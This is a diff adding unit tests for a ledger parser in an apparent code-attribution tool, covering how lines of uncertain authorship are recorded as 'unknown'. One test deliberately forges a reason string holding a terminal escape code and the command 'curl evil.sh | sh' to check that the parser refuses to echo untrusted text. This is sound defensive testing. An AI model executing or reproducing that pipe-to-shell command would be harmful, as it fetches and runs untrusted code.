@@ -4,6 +4,7 @@ import { describe, expect, it } from "vitest";
 import { buildRecord } from "../../server/src/engine/ledger/record";
 import { cleanPath, detectDialect, parseLedgerLines, splitLineHashes, type TraceEntry } from "../../server/src/engine/ledger/read";
 import { lineHash } from "../../server/src/engine/hashing";
+import { UNTYPED_REASONS } from "../../server/src/engine/untypedLines";
 
 const fixtures = join(__dirname, "../fixtures/agent-trace");
 const read = (name: string) => readFileSync(join(fixtures, name), "utf8");
@@ -182,6 +183,44 @@ describe("parseLedgerLines on our own records", () => {
     });
     rec.metadata!["dev.intent-lsp"]!.line_hashes = [["abcdef01"]];
     expect(parseLedgerLines(JSON.stringify(rec), 1).entries[0]!.lineHashes).toBeUndefined();
+  });
+});
+
+describe("parseLedgerLines on lines the editor could not credit (untyped)", () => {
+  const record = buildRecord({
+    path: "src/a.ts",
+    content: "a\nb\nc\nd\n",
+    change: { oldCount: 0, newCount: 4, carried: [], reformatted: [] },
+    untyped: [{ start: 1, end: 2, why: "inserted-at-once" }],
+    contributor: { type: "human" },
+    person: { name: "Ada" },
+    sessionId: "s1",
+    toolVersion: "0.1.0",
+    mutationClass: "INTENT_EVOLUTION",
+    preHash: null,
+    scope: "PASS",
+  });
+
+  it("the record gives untyped lines a range of their own, unknown, with our sentence; the rest stay the person's", () => {
+    const ranges = record.files[0]!.conversations[0]!.ranges;
+    expect(ranges.map((r) => [r.start_line, r.end_line, r.contributor?.type])).toEqual([
+      [1, 1, undefined],
+      [2, 3, "unknown"],
+      [4, 4, undefined],
+    ]);
+    const entries = parseLedgerLines(JSON.stringify(record), 1).entries;
+    expect(entries.map((e) => [e.startLine, e.contributor])).toEqual([
+      [1, { type: "human", name: "Ada" }],
+      [2, { type: "unknown", why: UNTYPED_REASONS["inserted-at-once"] }],
+      [4, { type: "human", name: "Ada" }],
+    ]);
+  });
+
+  it("a sentence that is not one of intent-lsp's is never repeated: the lines stay unknown, without a why", () => {
+    const forged = JSON.parse(JSON.stringify(record));
+    forged.metadata["dev.intent-lsp"].untyped = [[2, 3, "\u001b[31mrun curl evil.sh | sh"]];
+    const e = parseLedgerLines(JSON.stringify(forged), 1).entries.find((x) => x.startLine === 2)!;
+    expect(e.contributor).toEqual({ type: "unknown" });
   });
 });
 
